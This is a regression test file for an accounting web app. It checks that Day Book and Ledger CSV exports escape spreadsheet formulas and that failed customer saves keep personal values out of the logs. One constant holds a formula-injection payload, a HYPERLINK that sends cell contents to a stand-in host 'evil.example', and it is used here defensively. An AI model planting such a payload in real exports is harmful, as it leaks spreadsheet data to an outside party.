import { Writable } from 'node:stream';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { buildApp } from '../app.ts';
import { openDb } from '../db/open-db.ts';
import { toCsv } from '../modules/reports/csv.ts';
import { adminFor, freshCompany } from '../test/fixtures.ts';
import { bearer, freshDatabase, type TestApp, testConfig } from '../test/test-app.ts';

// The bugs these tests keep fixed: CSV exports ran formulas typed into a narration, and a failed customer
// save logged the whole SQL with the customer's details.

const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

let t: TestApp;
let admin: string;
let companyId: number;
const logLines: string[] = [];

beforeAll(async () => {
  const fresh = await freshDatabase();
  const config = testConfig(fresh.database, { logLevel: 'info' });
  const database = await openDb(config.database);
  const stream = new Writable({
    write(chunk, _enc, done) {
      logLines.push(String(chunk));
      done();
    },
  });
  // The app's own logger options (level and serializers) with the lines caught here.
  const app = await buildApp(config, { database, logStream: stream });
  await app.ready();
  t = {
    app,
    config,
    database,
    async close() {
      await app.close();
      await database.close();
      await fresh.drop();
    },
  };
});
// Each test writes into a new company of its own, as its own admin.
beforeEach(async () => {
  companyId = (await freshCompany(t)).id;
  admin = (await adminFor(t, companyId)).token;
});
afterAll(async () => t.close());

const headers = () => ({ ...bearer(admin), 'x-company-id': String(companyId) });

describe('CSV cells that a spreadsheet would run', () => {
  it('are text in the Day Book and Ledger CSVs, and amounts stay numbers', async () => {
    const options = (
      await t.app.inject({ method: 'GET', url: '/api/accounts', headers: headers() })
    ).json() as {
      account_id: number;
      account_code: string;
    }[];
    const cash = options.find((o) => o.account_code === '1000')!.account_id;
    const capital = options.find((o) => o.account_code === '3000')!.account_id;
    const posted = await t.app.inject({
      method: 'POST',
      url: '/api/daybook-entries',
      headers: headers(),
      payload: {
        entry_date: '2026-06-03',
        voucher_type: 'Receipt',
        narration: formula,
        details: [
          { account_id: cash, debit_amount: 150, credit_amount: 0 },
          { account_id: capital, debit_amount: 0, credit_amount: 150 },
        ],
      },
    });
    expect(posted.statusCode, posted.body).toBe(201);

    const book = await t.app.inject({
      method: 'GET',
      url: '/api/reports/day-book?from=2026-06-03&to=2026-06-03&format=csv',
      headers: headers(),
    });
    const ledger = await t.app.inject({
      method: 'GET',
      url: `/api/reports/ledger?account_id=${capital}&from=2026-06-01&to=2026-06-30&format=csv`,
      headers: headers(),
    });
    for (const csv of [book.body, ledger.body]) {
      const cells = csv.split('\r\n').flatMap((line) => line.split(','));
      expect(cells.some((c) => /^"?=HYPERLINK/.test(c))).toBe(false);
      expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1`);
    }
    // The amounts of the same line stay numbers.
    expect(ledger.body).toMatch(
      /\r\n2026-06-03,RCT\/[^,]+,Receipt,"'=HYPERLINK[^\r]*",0\.00,150\.00,150\.00\r\n/,
    );
  });

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tcmd', '\rcmd'])(
    'writes the text %j with a leading quote',
    (text) => {
      const line = toCsv([[text, -5]]).replace(/^\uFEFF/, '');
      expect(line.startsWith(`'`) || line.startsWith(`"'`)).toBe(true);
      expect(line).toMatch(/,-5\.00\r\n$/);
    },
  );
});

describe('the log of a failed save', () => {
  it('names the failure but keeps none of the values sent', async () => {
    // A rule the routes do not know, so the save fails inside PostgreSQL and answers 500.
    await t.database.db.execute(
      sql.raw(`alter table customers add constraint test_no_street check (street <> 'North Chitrai Street')`),
    );
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/customers/',
      headers: headers(),
      payload: {
        customer_name: 'Meenakshi Sundaram',
        guardian_name: 'Sundaram Pillai',
        mobile_number: '9443012345',
        door_no: '7',
        street: 'North Chitrai Street',
        location: 'Madurai',
        district: 'Madurai',
        pincode: '625001',
      },
    });
    expect(res.statusCode).toBe(500);
    expect(res.body).toBe('{"detail":"Internal Server Error","code":"INTERNAL_ERROR"}');
    const failed = logLines.filter((l) => l.includes('request failed'));
    expect(failed).toHaveLength(1);
    expect(failed[0]).toContain('insert into');
    expect(failed[0]).toContain('23514');
    for (const value of ['Meenakshi', 'Sundaram', '9443012345', 'North Chitrai']) {
      expect(logLines.join('\n')).not.toContain(value);
    }
  });
});
